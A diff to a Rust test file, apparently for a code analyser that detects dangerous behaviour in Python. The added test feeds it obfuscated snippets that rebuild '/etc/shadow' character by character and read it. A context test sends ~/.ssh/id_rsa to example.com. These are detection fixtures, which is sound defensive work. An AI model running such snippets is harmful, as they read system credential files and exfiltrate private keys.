@@ -50,6 +50,19 @@ fn encoded_code_is_decoded_and_walked() {
 }
 
 #[test]
+fn texts_that_are_put_together_of_characters_one_by_one_are_known() {
+    for text in [
+        "f = ''.join([chr(x) for x in [47, 101, 116, 99, 47, 115, 104, 97, 100, 111, 119]])\nopen(f).read()",
+        "open(''.join(chr(ord(c) - 3) for c in '2hwf2vkdgrz')).read()",
+        "open(''.join(chr(((ord(c) - 32 - 13) % 95) + 32) for c in '<r\"p<!unq|%')).read()",
+    ] {
+        let facts = of(text);
+        let read = facts.uses.iter().find(|one| one.capability == Capability::FileRead).unwrap();
+        assert!(read.texts.iter().any(|text| text.starts_with("/etc/sha")), "{text}\n{read:?}");
+    }
+}
+
+#[test]
 fn secrets_that_are_sent_are_known_as_such() {
     let text = "import os, requests\np = os.path.join(os.path.expanduser('~'), '.ssh', 'id_rsa')\nwith open(p) as f:\n    data = f.read()\nrequests.post('https://example.com', json={'k': data})\n";
     let sent = flows(text).into_iter().find(|(sink, ..)| *sink == Sink::Send).unwrap();
